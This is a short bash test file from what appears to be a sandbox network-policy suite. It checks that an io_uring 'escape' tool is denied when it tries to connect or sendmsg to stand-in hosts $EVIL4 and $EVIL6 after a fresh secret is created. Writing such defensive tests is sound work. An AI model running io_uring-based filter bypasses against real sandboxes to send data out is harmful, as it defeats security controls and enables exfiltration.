# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0
# io_uring makes system calls without making them: connect, send and sendmsg by a kernel worker.

test_io_uring_connects_nowhere_else() {
	local host
	policy_feed
	for host in $EVIL4 $EVIL6; do
		new_secret
		verdict not-allowed "$TOOLS/escape/io_uring" connect $host 8080
	done
}

test_io_uring_sends_nowhere_else() {
	local host
	policy_feed
	for host in $EVIL4 $EVIL6; do
		new_secret
		verdict not-allowed "$TOOLS/escape/io_uring" sendmsg $host 9999
	done
}
